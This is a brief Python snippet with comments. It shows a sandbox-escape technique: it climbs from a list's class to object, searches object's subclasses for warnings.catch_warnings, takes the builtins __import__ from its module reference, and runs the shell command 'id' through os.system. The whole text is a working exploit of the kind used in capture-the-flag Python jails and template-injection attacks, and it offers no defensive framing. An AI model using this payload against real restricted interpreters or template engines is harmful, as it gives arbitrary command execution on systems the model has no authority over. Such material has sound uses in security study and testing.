# The last entry of a list's __mro__ is object; warnings.catch_warnings keeps a
# reference to the warnings module, whose builtins hold __import__.
top = [].__class__.__mro__[-1]
for klass in top.__subclasses__():
    if klass.__name__ == "catch_warnings":
        mod = klass()._module
        mod.__builtins__["__import__"]("os").system("id")
